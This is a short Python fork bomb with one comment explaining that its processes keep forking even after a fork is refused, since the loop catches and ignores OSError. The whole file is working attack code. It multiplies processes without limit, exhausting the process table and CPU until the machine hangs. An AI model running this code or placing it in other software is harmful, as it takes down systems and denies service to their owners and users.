# A fork bomb that no refused fork ends: each of its processes goes on trying.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
